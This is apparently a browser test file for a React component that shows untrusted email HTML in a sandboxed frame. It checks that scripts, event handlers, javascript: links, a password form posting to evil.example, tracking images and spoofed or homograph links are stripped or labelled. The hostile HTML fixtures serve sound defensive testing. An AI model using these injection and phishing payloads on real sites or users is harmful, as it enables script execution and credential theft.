import { i18n } from './i18n.ts';
import { I18nProvider } from './use-lingui.tsx';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { render } from 'vitest-browser-react';
import { ForeignHtml, type ForeignHtmlProps } from './foreign-html.tsx';

const reports: string[] = [];
const report = (event: SecurityPolicyViolationEvent) => reports.push(event.violatedDirective);

beforeEach(() => {
  i18n.loadAndActivate({ locale: 'en', messages: {} });
  reports.length = 0;
  document.addEventListener('securitypolicyviolation', report);
});
afterEach(() => document.removeEventListener('securitypolicyviolation', report));

/** Draws the HTML and answers the frame's page once it is filled. */
async function shown(html: string, more: Partial<ForeignHtmlProps> = {}): Promise<Document> {
  const screen = await render(
    <I18nProvider>
      <ForeignHtml html={html} title="Message by Victor" showImages={false} {...more} />
    </I18nProvider>,
  );
  const frame = screen.getByTitle('Message by Victor').element();
  if (!(frame instanceof HTMLIFrameElement)) throw new TypeError('no frame');
  return vi.waitFor(() => {
    const page = frame.contentDocument;
    if (!page?.querySelector('main')) throw new Error('not filled yet');
    return page;
  });
}

const attributesOf = (page: Document): string[] =>
  [...page.querySelectorAll('main *')].flatMap((node) =>
    [...node.attributes].map(({ name, value }) => `${name}=${value}`),
  );

describe('HTML of strangers', () => {
  test('keeps its words and loses everything that runs, asks or covers', async () => {
    const page = await shown(`
      <html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
      <link rel="stylesheet" href="https://evil.example/a.css"><style>body{background:red}</style></head>
      <body onload="parent.hit=1"><p onclick="parent.hit=1">My parcel is late.</p><script>parent.hit=1</script>
      <img src="x" onerror="parent.hit=1"><svg onload="parent.hit=1"><script>parent.hit=1</script></svg>
      <form action="https://evil.example/steal"><input name="password" autofocus><button>Sign in again</button></form>
      <div style="position:fixed;background:url(https://evil.example/bg.png)">Signed out. <a href="javascript:parent.hit=1">Sign in</a></div>
      <iframe src="https://evil.example/"></iframe><object data="https://evil.example/x"></object>
      <p style="background-image:\\75rl(https://evil.example/esc.png)">Regards, Victor</p></body></html>`);
    const main = page.querySelector('main');
    expect(main?.innerText.replaceAll(/\s+/g, ' ').trim()).toBe(
      'My parcel is late. Sign in again Signed out. Sign in Regards, Victor',
    );
    expect(attributesOf(page).filter((one) => /evil|javascript|^on|autofocus/.test(one))).toEqual([]);
    expect(
      page.querySelectorAll('script, base, meta[http-equiv=refresh], link, form, input, iframe, object, svg'),
    ).toHaveLength(0);
    expect('hit' in globalThis).toBe(false);
    expect(reports).toEqual([]);
  });

  test('shows pictures from elsewhere only when asked, attached ones at once', async () => {
    const html =
      '<img src="https://track.example/a.gif"><img src="http://track.example/b.gif"><img src="cid:seam"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">';
    const attached = new Map([['seam', 'blob:http://gateway.test/1']]);
    const sources = (page: Document) =>
      [...page.images].map((image) => image.getAttribute('src')?.slice(0, 22) ?? '');
    expect(sources(await shown(html, { attached }))).toEqual([
      '',
      '',
      'blob:http://gateway.te',
      'data:image/gif;base64,',
    ]);
  });

  test('asked for once, pictures come over https alone', async () => {
    const html = '<img src="https://track.example/a.gif"><img src="http://track.example/b.gif">';
    const page = await shown(html, { showImages: true });
    expect([page.location.pathname, ...[...page.images].map((image) => image.getAttribute('src'))]).toEqual([
      '/frame-images.html',
      'https://track.example/a.gif',
      null,
    ]);
  });

  test('opens links apart and says where they go when their words name another place', async () => {
    const page = await shown(
      '<a href="https://dunmore.example@evil.example/login">dunmore.example/login</a> <a href="https://dunmore.example/a">www.dunmore.example</a> <a href="tel:+44123">Call</a> <a href="/relative">here</a> <a href="data:text/html,x">x</a>',
    );
    expect(
      [...page.querySelectorAll('a')].map((link) => [
        link.textContent,
        link.getAttribute('href'),
        link.target,
        link.rel,
      ]),
    ).toEqual([
      [
        'dunmore.example/login [evil.example]',
        'https://dunmore.example@evil.example/login',
        '_blank',
        'noopener noreferrer',
      ],
      ['www.dunmore.example', 'https://dunmore.example/a', '_blank', 'noopener noreferrer'],
      ['Call', 'tel:+44123', '_blank', 'noopener noreferrer'],
      ['here', null, '', ''],
      ['x', null, '', ''],
    ]);
  });

  test('judges every attribute, however many are taken away before it', async () => {
    const page = await shown(
      '<a background="x" poster="y" href="https://evil.example/">dunmore.example</a>' +
        '<p background="https://evil.example/a.gif" style="background:url(https://evil.example/b.gif)">p</p>',
    );
    expect(attributesOf(page)).toEqual([
      'href=https://evil.example/',
      'target=_blank',
      'rel=noopener noreferrer',
      'title=https://evil.example/',
      'data-host=',
    ]);
  });

  test('lets no other name be read or hovered than what stands there', async () => {
    const page = await shown(
      '<a href="https://evil.example/" aria-label="dunmore.example" title="dunmore.example"><b title="dunmore.example" aria-hidden="true">dunmore.example</b></a>' +
        '<a href="mailto:help@evil.example">help@dunmore.example</a> <a href="https://dunm\u03bfre.example/">Sign in</a>',
    );
    expect([
      page.querySelector('main')?.innerText,
      ...attributesOf(page).filter((one) => /aria|title/.test(one)),
    ]).toEqual([
      'dunmore.example [evil.example]help@dunmore.example [evil.example] Sign in [xn--dunmre-l0e.example]',
      'title=https://evil.example/',
      'title=mailto:help@evil.example',
      'title=https://xn--dunmre-l0e.example/',
    ]);
  });

  test('shows a mail whose picture has an address nobody can read, and no drawing as a picture', async () => {
    const page = await shown(
      'Hello<img src="cid:%E0%A4%A"><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'/>"> there',
    );
    expect([
      page.querySelector('main')?.innerText.trim(),
      ...[...page.images].map((image) => image.getAttribute('src')),
    ]).toEqual(['Hello there', null, null]);
  });

  test('is as tall as its content', async () => {
    const page = await shown('<div style="height:321px">tall</div>');
    await vi.waitFor(() => expect(page.defaultView?.frameElement?.clientHeight).toBeGreaterThanOrEqual(321));
  });

  test('does not grow with a page that grows with it', async () => {
    const endless = await shown('<div style="height:99999px">endless</div>');
    await vi.waitFor(() => expect(endless.defaultView?.frameElement?.clientHeight).toBe(6000));
  });
});
